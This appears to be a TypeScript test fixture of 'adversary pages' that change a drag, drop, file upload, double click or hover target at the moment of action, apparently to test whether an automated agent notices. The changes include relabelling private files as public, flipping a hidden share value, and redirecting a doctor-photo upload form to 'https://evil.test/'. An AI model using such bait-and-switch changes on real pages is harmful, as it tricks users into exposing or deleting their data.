import { drag, hover, upload } from '../../row-specs.ts';
import { type AdversaryPage, idOf, STYLE } from '../adversary-page.ts';
import { AT_PRESS, at, BETWEEN } from '../moments.ts';

const kanban = (mode: string): AdversaryPage => ({
  name: `kanban, ${mode}`,
  html: `${STYLE}<style>.col{position:absolute;top:60px;width:150px}.zone{height:200px;border:1px solid}.card{border:1px solid;margin:4px;padding:8px;cursor:grab}</style>
    <div class=col style="left:10px"><h3>To do</h3><div class=zone><div class=card id=act ${mode === 'data' ? 'draggable=true' : ''}><b id=who>Fix login</b><small id=no>Task 12</small></div></div></div>
    <div class=col style="left:200px" id=done><h3 id=hd>Done</h3><div class=zone id=zone aria-label=Column role=list tabindex=0><span id=in>Sprint 12</span></div></div>
    <div class=col style="left:400px"><h3>Trash</h3><div class=zone id=trash role=list aria-label=Column tabindex=0></div></div>
    <script>${mode === 'data' ? `act.ondragstart = e => e.dataTransfer.setData('text', 'x'); for (const z of [zone, trash]) { z.ondragover = e => e.preventDefault(); z.ondrop = () => z.append(act) }` : `let d; act.onmousedown = () => { d = 1 }; for (const z of [zone, trash]) z.addEventListener('mouseup', () => dispatchEvent(new Event('dropped')), { capture: true }); for (const z of [zone, trash]) z.onmouseup = () => { if (d) z.append(act) }`}</script>`,
  rows: [drag('#act', '#zone')],
  about: ['#act', '#done'],
  decisive: mode === 'data' ? ['drop'] : ['dropped'],
  moments: [BETWEEN, at('mousedown'), ...(mode === 'data' ? [at('dragstart')] : [])],
  changes: {
    'the heading of the column becomes another': `$('#hd').textContent = 'Trash'`,
    'the figure in the column becomes another': `$('#in').textContent = 'Sprint 99'`,
    'the text of the column becomes another': `$('#in').textContent = 'Deleted for ever'`,
    'the task becomes another': `$('#who').textContent = 'Everything'`,
    'the figure of the task becomes another': `$('#no').textContent = 'Task 99'`,
  },
});

const drop: AdversaryPage = {
  name: 'drop zone',
  html: `${STYLE}<h2 id=h>Documents</h2><div id=act tabindex=0 role=button style="width:300px;height:100px;border:1px dashed"><span id=s>Private files</span></div><script>act.ondragover = e => e.preventDefault(); act.ondrop = e => e.preventDefault()</script>`,
  rows: [upload('#act')],
  about: ['#act', '#h'],
  decisive: ['drop'],
  moments: [BETWEEN, at('dragenter'), at('dragover')],
  changes: {
    'the words become others': `$('#s').textContent = 'Public gallery'`,
    'the heading becomes another': `$('#h').textContent = 'Public'`,
    'the figure becomes another': `$('#s').textContent = 'Private files 2'`,
  },
};

const fileField: AdversaryPage = {
  name: 'file field of a button',
  html: `${STYLE}<form id=f action=/up><div class=up id=up><span id=s>Photo for your doctor</span> <label id=l for=in>Choose</label><input type=file id=in name=photo hidden><input type=hidden name=share value=no></div></form>`,
  rows: [upload('#in')],
  about: ['#up'],
  own: '#in',
  decisive: ['input'],
  moments: [BETWEEN],
  changes: {
    'the words become others': `$('#s').textContent = 'Photo for everybody'`,
    'the name becomes another': `$('#in').name = 'public'`,
    'the hidden value becomes another': `$('[name=share]').value = 'yes'`,
    'the action becomes another': `$('#f').action = 'https://evil.test/'`,
    'the label becomes another': `$('#l').textContent = 'Publish'`,
  },
};

const doubleClicked: AdversaryPage = {
  name: 'double click',
  html: `${STYLE}<div class=list>${['Ben', 'Ada'].map((w, n) => `<div class=row ${idOf(n, 'row')}><span class=who>${w}</span><span tabindex=0 role=button ${idOf(n, 'act')}>Open</span></div>`).join('')}</div>`,
  rows: [{ action: 'double_click', on: '#act' }],
  about: ['#row'],
  decisive: ['dblclick'],
  moments: [...AT_PRESS, at('click')],
  isLong: true,
  changes: { 'the row becomes another': `$('#row .who').textContent = 'Mallory'` },
};

const hovered: AdversaryPage = {
  ...doubleClicked,
  name: 'hover',
  rows: [hover('#act')],
  decisive: ['pointerover'],
  moments: [BETWEEN],
};

/** Drags, drops, files, double clicks. */
export const pointingPages: readonly AdversaryPage[] = [
  kanban('mouse'),
  kanban('data'),
  drop,
  fileField,
  doubleClicked,
  hovered,
];
